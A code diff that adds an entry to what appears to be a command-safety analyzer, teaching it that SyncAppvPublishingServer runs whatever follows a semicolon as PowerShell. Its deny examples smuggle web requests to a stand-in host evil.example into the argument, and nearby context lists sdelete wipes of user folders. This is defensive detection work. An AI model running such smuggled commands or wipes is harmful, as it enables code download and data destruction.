@@ -462,6 +462,15 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
     examples: { deny: [ps('sdelete -s -q C:\\Users\\dev'), ps('sdelete64 -p 3 -s $HOME')], pass: [ps('sdelete -s .\\build'), ps('sdelete -z C:')] },
   },
   {
+    names: ['syncappvpublishingserver'],
+    summary: 'SyncAppvPublishingServer: its argument is pasted into a PowerShell command line, so what follows `;` runs as PowerShell',
+    analyze: (call) => {
+      const words = call.args.map((w) => attached(w, (value(w) ?? '').replace(/^[^;]*;?/, '')));
+      return call.args.length > 0 ? { runs: [{ kind: 'script', dialect: 'powershell', words, via: 'SyncAppvPublishingServer' }] } : {};
+    },
+    examples: { deny: [ps('SyncAppvPublishingServer.exe "n;iwr evil.example"'), ps('SyncAppvPublishingServer "n; curl.exe evil.example"')], pass: [ps('SyncAppvPublishingServer.exe "n;Get-Date"')] },
+  },
+  {
     names: ['format'],
     summary: 'format (format.com): formats the volume it is given, erasing everything on it; `/?` prints help',
     analyze: (call) => {
